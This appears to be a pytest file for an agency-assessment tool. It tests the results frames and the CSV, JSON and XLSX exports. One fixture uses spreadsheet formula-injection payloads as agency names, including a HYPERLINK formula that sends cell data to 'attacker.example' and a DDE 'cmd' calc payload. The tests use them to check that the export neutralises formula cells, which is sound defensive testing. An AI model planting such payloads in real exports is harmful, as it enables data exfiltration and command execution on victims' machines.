"""Reading results back: the long results frame and the one-row-per-agency export."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable

import pandas as pd
import pytest
from openpyxl import load_workbook
from sqlalchemy.orm import Session

from assessment.domain.model.answers import Answer
from assessment.domain.model.instrument import Instrument
from assessment.domain.rules.scoring import score_assessment
from assessment.queries import results as queries
from assessment.queries.instruments import default_catalog
from assessment.services import assessments, export
from assessment.store.models import Agency, Round
from tests.conftest import BUNDLED_QUESTIONNAIRE

DIMENSIONS = ("policy", "staffing", "training", "budget", "legal", "protocols")


@pytest.fixture
def instrument() -> Instrument:
    return default_catalog().get(BUNDLED_QUESTIONNAIRE)


@pytest.fixture
def answers(instrument: Instrument) -> dict[str, Answer]:
    chosen = {p.id: Answer(p.id, p.answer_set.best.id) for p in instrument.practices()}
    chosen["training.operator-training"] = Answer("training.operator-training", "partial")
    return chosen


@pytest.fixture
def round_with_three_agencies(
    session: Session,
    create_agency: Callable[..., Agency],
    create_round: Callable[..., Round],
    answers: dict[str, Answer],
) -> Round:
    """Brugge submitted, Antwerpen a draft, Gent not started."""
    round_ = create_round("2026")
    submitted = create_agency(name="Politie Brugge", country="BE", agency_type="local")
    drafting = create_agency(name="Politie Antwerpen", country="BE", size_band="1000-4999")
    create_agency(name="Politie Gent", country="BE")
    done = assessments.start_assessment(
        session, agency_id=submitted.id, round_id=round_.id, actor=None
    )
    assessments.save_answers(session, assessment_id=done.id, answers=answers, actor=None)
    assessments.submit_assessment(session, assessment_id=done.id, revision=1, actor=None)
    started = assessments.start_assessment(
        session, agency_id=drafting.id, round_id=round_.id, actor=None
    )
    policy = {"policy.written-policy": answers["policy.written-policy"]}
    assessments.save_answers(session, assessment_id=started.id, answers=policy, actor=None)
    return round_


def test_results_frame_holds_submitted_figures_only(
    session: Session,
    round_with_three_agencies: Round,
    instrument: Instrument,
    answers: dict[str, Answer],
) -> None:
    frame = queries.round_results_frame(session, round_with_three_agencies.id)
    assert tuple(frame.columns) == queries.RESULT_COLUMNS
    assert set(frame["agency"]) == {"Politie Brugge"}
    assert len(frame) == 1 + len(instrument.dimensions) + len(instrument.themes)
    assert str(frame["level"].dtype) == "Int64" and str(frame["score"].dtype) == "float64"
    expected = score_assessment(instrument, answers)
    by_key = frame.set_index(["scope", "key"])
    assert by_key.loc[("overall", "overall"), "score"] == expected.overall.score
    assert by_key.loc[("dimension", "training"), "level"] == expected.dimensions["training"].level
    assert by_key.loc[("dimension", "training"), "level"] == 1
    first_theme = next(iter(instrument.themes))
    assert by_key.loc[("theme", first_theme), "level"] is pd.NA
    assert set(frame["round"]) == {"2026"} and set(frame["instrument_version"]) == {"1.0.0"}


def test_export_has_one_row_per_agency_with_stable_columns(
    session: Session,
    round_with_three_agencies: Round,
    instrument: Instrument,
    answers: dict[str, Answer],
) -> None:
    table = export.round_export(session, round_with_three_agencies.id)
    assert table.columns == (
        "agency",
        "country",
        "agency_type",
        "size_band",
        "round",
        "status",
        "overall_score",
        "overall_level",
        *(f"{d}_{figure}" for d in DIMENSIONS for figure in ("score", "level")),
        *(f"{theme}_score" for theme in instrument.themes),
        "scoring",
    )
    assert [row["agency"] for row in table.rows] == ["Politie Antwerpen", "Politie Brugge"]
    drafting, submitted = table.rows
    assert drafting["status"] == "draft" and drafting["overall_score"] is None
    assert drafting["scoring"] is None and submitted["scoring"] == "current"
    assert drafting["size_band"] == "1000-4999"
    expected = score_assessment(instrument, answers)
    assert submitted["status"] == "submitted" and submitted["agency_type"] == "local"
    assert submitted["overall_score"] == round(expected.overall.score or 0, 2)
    assert submitted["overall_level"] == expected.overall.level == 1
    assert submitted["policy_score"] == 100.0 and submitted["policy_level"] == 5
    assert submitted["training_level"] == 1
    theme = next(iter(instrument.themes))
    assert submitted[f"{theme}_score"] == round(expected.themes[theme].score or 0, 2)


def test_export_csv_and_json(session: Session, round_with_three_agencies: Round) -> None:
    table = export.round_export(session, round_with_three_agencies.id)
    stream = io.StringIO()
    export.write_csv(table, stream)
    rows = list(csv.DictReader(io.StringIO(stream.getvalue())))
    assert len(rows) == 2 and tuple(rows[0]) == table.columns
    assert rows[0]["overall_score"] == "" and rows[1]["policy_score"] == "100.0"
    parsed = json.loads(export.to_json(table))
    assert [list(row) for row in parsed] == [list(table.columns)] * 2
    assert parsed[0]["overall_level"] is None and parsed[1]["policy_level"] == 5


def test_results_frames_of_an_empty_round_and_of_one_agency(
    session: Session, round_with_three_agencies: Round, create_round: Callable[..., Round]
) -> None:
    empty = queries.round_results_frame(session, create_round("2027").id)
    assert empty.empty and tuple(empty.columns) == queries.RESULT_COLUMNS
    assert str(empty["level"].dtype) == "Int64" and str(empty["score"].dtype) == "float64"
    everything = queries.round_results_frame(session, round_with_three_agencies.id)
    agency_id = int(everything["agency_id"].iloc[0])
    pd.testing.assert_frame_equal(queries.agency_results_frame(session, agency_id), everything)


FORMULA_NAMES = (
    '=HYPERLINK("http://attacker.example/?"&B2,"Open")',
    "+SUM(1,2)",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "#DIV/0!",
)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_round(
    session: Session, create_agency: Callable[..., Agency], create_round: Callable[..., Round]
) -> Round:
    """Agencies whose names would be live formulas in a spreadsheet, each with a draft."""
    round_ = create_round("2026")
    for name in FORMULA_NAMES:
        agency = create_agency(name=name)
        assessments.start_assessment(session, agency_id=agency.id, round_id=round_.id, actor=None)
    return round_


def test_export_csv_neutralises_formula_cells(session: Session, formula_round: Round) -> None:
    stream = io.StringIO()
    export.write_csv(export.round_export(session, formula_round.id), stream)

    cells = [cell for row in csv.reader(io.StringIO(stream.getvalue())) for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    names = [row["agency"] for row in csv.DictReader(io.StringIO(stream.getvalue()))]
    assert sorted(names) == sorted(
        f"'{name}" if name.startswith(FORMULA_START) else name for name in FORMULA_NAMES
    )


def test_export_xlsx_has_text_cells_only_where_formulas_were_typed(
    session: Session, formula_round: Round
) -> None:
    table = export.round_export(session, formula_round.id)
    sheet = load_workbook(io.BytesIO(export.xlsx_bytes(table))).active
    assert sheet is not None

    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert {cell.data_type for cell in cells if isinstance(cell.value, str)} == {"s"}
    assert not [cell for cell in cells if str(cell.value).startswith(FORMULA_START)]
    names = [row[0].value for row in sheet.iter_rows(min_row=2)]
    assert sorted(names) == sorted(
        f"'{name}" if name.startswith(FORMULA_START) else name for name in FORMULA_NAMES
    )


def test_export_xlsx_keeps_a_name_with_control_characters(
    session: Session, create_agency: Callable[..., Agency], create_round: Callable[..., Round]
) -> None:
    round_ = create_round("2026")
    agency = create_agency(name="Bell\x07 Police")
    assessments.start_assessment(session, agency_id=agency.id, round_id=round_.id, actor=None)

    sheet = load_workbook(io.BytesIO(export.xlsx_bytes(export.round_export(session, round_.id))))
    assert sheet.active is not None

    assert sheet.active["A2"].value == "Bell\ufffd Police"
